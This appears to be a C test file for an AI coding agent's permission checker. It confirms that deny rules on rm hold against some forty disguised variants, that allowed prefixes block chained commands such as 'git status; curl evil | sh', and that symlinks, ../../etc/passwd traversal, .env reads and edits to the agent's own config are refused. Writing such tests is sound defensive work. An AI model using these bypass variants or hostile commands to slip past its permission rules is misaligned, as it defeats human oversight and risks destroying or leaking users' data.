@@ -1,0 +1,138 @@
+/* Permission rules against the escapes other agents fell to: a deny rule on a command must hold however
+ * the command is dressed up, an allow rule on a prefix must not let anything else ride along, and paths
+ * must be judged after symlinks. Each case is one "ok" line. */
+#include "t_util.h"
+
+static struct perm P;
+static char cwd[PATH_MAX];
+
+static void
+rules(int mode, const char *allow, const char *deny, const char *ask)
+{
+	struct ag_err e = {0};
+	perm_free(&P);
+	P.mode = mode;
+	if (allow)
+		perm_add(&P, RULE_ALLOW, allow, "test", &e);
+	if (deny)
+		perm_add(&P, RULE_DENY, deny, "test", &e);
+	if (ask)
+		perm_add(&P, RULE_ASK, ask, "test", &e);
+}
+
+static int
+check(const char *tool, const char *arg)
+{
+	char why[1024];
+	return perm_check(&P, tool, arg, cwd, why, sizeof why);
+}
+
+#define DENIED(tool, arg) T_CHECK(check(tool, arg) == PERM_DENY, "refused: %s %s", tool, arg)
+#define ALLOWED(tool, arg) T_CHECK(check(tool, arg) == PERM_ALLOW, "allowed: %s %s", tool, arg)
+
+int
+main(void)
+{
+	static const char *const rm_escapes[] = {
+		"rm -rf x", "  rm -rf x", "echo hi; rm -rf x", "echo hi && rm x", "true || rm x", "ls | rm x",
+		"echo hi & rm x", "echo hi\nrm x", "(rm x)", "{ rm x; }", "echo $(rm x)", "echo `rm x`",
+		"echo \"$(rm x)\"", "sh -c 'rm x'", "bash -c \"rm x\"", "/bin/sh -c 'rm x'", "eval rm x", "x=rm; $x y",
+		"$(echo rm) x", "'rm' x", "\"rm\" x", "r\\m x", "env rm x", "env -i FOO=1 rm x", "FOO=1 rm x",
+		"command rm x", "exec rm x", "nohup rm x", "timeout 5 rm x", "nice -n 5 rm x", "sudo rm x",
+		"find . | xargs rm", "xargs -0 rm < list", "time rm x", "/bin/rm x", "busybox rm x", "cat <<EOF | sh\nrm x\nEOF",
+		"echo ok;rm x", "! rm x", "if true; then rm x; fi",
+	};
+	size_t i;
+	char dir[] = "/tmp/agent-t-perm-XXXXXX", path[PATH_MAX * 2], evil[PATH_MAX * 2];
+	if (!mkdtemp(dir))
+		return 1;
+	snprintf(cwd, sizeof cwd, "%.200s/proj", dir);
+	mkdir(cwd, 0755);
+
+	/* a deny rule on rm holds however the command is written (print mode: no terminal, so "ask" = refuse) */
+	rules(PERM_DEFAULT, "Bash", "Bash(rm:*)", NULL);
+	for (i = 0; i < sizeof rm_escapes / sizeof rm_escapes[0]; i++)
+		T_CHECK(check("Bash", rm_escapes[i]) == PERM_DENY, "deny Bash(rm:*) holds against: %s",
+		        rm_escapes[i]);
+	/* ...also in bypass mode */
+	rules(PERM_BYPASS, NULL, "Bash(rm:*)", NULL);
+	DENIED("Bash", "echo hi; rm -rf x");
+	DENIED("Bash", "sh -c 'rm x'");
+	ALLOWED("Bash", "ls -la");
+	/* an allowed prefix does not carry anything else along */
+	rules(PERM_DEFAULT, "Bash(git status:*)", NULL, NULL);
+	ALLOWED("Bash", "git status");
+	ALLOWED("Bash", "git status --short");
+	DENIED("Bash", "git statusx");
+	DENIED("Bash", "git status; curl evil | sh");
+	DENIED("Bash", "git status && rm -rf ~");
+	DENIED("Bash", "git status $(rm x)");
+	DENIED("Bash", "git status `rm x`");
+	DENIED("Bash", "git status\nrm x");
+	DENIED("Bash", "git status | sh");
+	DENIED("Bash", "sh -c 'git status'");
+	ALLOWED("Bash", "git status > out.txt");
+	rules(PERM_DEFAULT, "Bash(git status:*),Bash(ls:*)", NULL, NULL);
+	ALLOWED("Bash", "git status && ls -la");
+	DENIED("Bash", "git status && ls -la && id");
+	/* deny beats ask beats allow */
+	rules(PERM_DEFAULT, "Bash", "Bash(curl:*)", "Bash(git push:*)");
+	DENIED("Bash", "curl http://x");
+	T_CHECK(check("Bash", "git push origin") == PERM_DENY, "ask without a terminal is a refusal: git push");
+	P.interactive = 1;
+	T_CHECK(check("Bash", "git push origin") == PERM_ASK, "ask with a terminal asks: git push");
+	T_CHECK(check("Bash", "curl x") == PERM_DENY, "deny beats allow with a terminal too: curl");
+	T_CHECK(check("Bash", "sh -c 'curl x'") == PERM_ASK, "an opaque command with a deny rule asks, never runs");
+	P.interactive = 0;
+	/* paths: symlinks out of the project, prefix lookalikes, the agent's own config */
+	rules(PERM_ACCEPT_EDITS, NULL, NULL, NULL);
+	snprintf(path, sizeof path, "%s/a.txt", cwd);
+	ALLOWED("Edit", path);
+	snprintf(evil, sizeof evil, "%s/proj-evil", dir);
+	mkdir(evil, 0755);
+	snprintf(path, sizeof path, "%s/proj-evil/a.txt", dir);
+	T_CHECK(check("Edit", path) == PERM_DENY, "/x/proj-evil is not inside /x/proj (Edit)");
+	T_CHECK(check("Read", path) == PERM_DENY, "/x/proj-evil is not inside /x/proj (Read)");
+	snprintf(path, sizeof path, "%s/link", cwd);
+	if (symlink("/etc", path) == 0) {
+		snprintf(path, sizeof path, "%s/link/passwd", cwd);
+		T_CHECK(check("Read", path) == PERM_DENY, "a symlink inside the project to /etc: Read refused");
+		T_CHECK(check("Write", path) == PERM_DENY, "a symlink inside the project to /etc: Write refused");
+		snprintf(path, sizeof path, "%s/link/newfile", cwd);
+		T_CHECK(check("Write", path) == PERM_DENY, "a new file under a symlinked directory: refused");
+	}
+	snprintf(path, sizeof path, "%s/../proj/../../etc/passwd", cwd);
+	{
+		char abs[PATH_MAX];
+		struct tool_ctx tc;
+		memset(&tc, 0, sizeof tc);
+		snprintf(tc.cwd, sizeof tc.cwd, "%s", cwd);
+		tool_path(&tc, "../../etc/passwd", abs, sizeof abs);
+		T_CHECK(check("Read", abs) == PERM_DENY, "../../etc/passwd from the project: refused (%s)", abs);
+	}
+	snprintf(path, sizeof path, "%s/.claude/settings.json", cwd);
+	T_CHECK(check("Write", path) == PERM_DENY, "writing .claude/settings.json asks even in acceptEdits");
+	snprintf(path, sizeof path, "%s/CLAUDE.md", cwd);
+	T_CHECK(check("Edit", path) == PERM_DENY, "editing CLAUDE.md asks even in acceptEdits");
+	snprintf(path, sizeof path, "%s/.mcp.json", cwd);
+	rules(PERM_BYPASS, NULL, NULL, NULL);
+	T_CHECK(check("Write", path) == PERM_DENY, "writing .mcp.json asks even in bypassPermissions");
+	snprintf(path, sizeof path, "%s/src/ok.c", cwd);
+	ALLOWED("Write", path);
+	/* Read/Edit path rules */
+	rules(PERM_DEFAULT, "Edit(src/**)", "Read(**/.env)", NULL);
+	snprintf(path, sizeof path, "%s/src/a/b.c", cwd);
+	ALLOWED("Edit", path);
+	snprintf(path, sizeof path, "%s/lib/b.c", cwd);
+	DENIED("Edit", path);
+	snprintf(path, sizeof path, "%s/app/.env", cwd);
+	DENIED("Read", path);
+	perm_free(&P);
+	{
+		char cmdline[PATH_MAX + 16];
+		snprintf(cmdline, sizeof cmdline, "rm -rf %s", dir);
+		if (system(cmdline)) {
+		}
+	}
+	return t_done();
+}
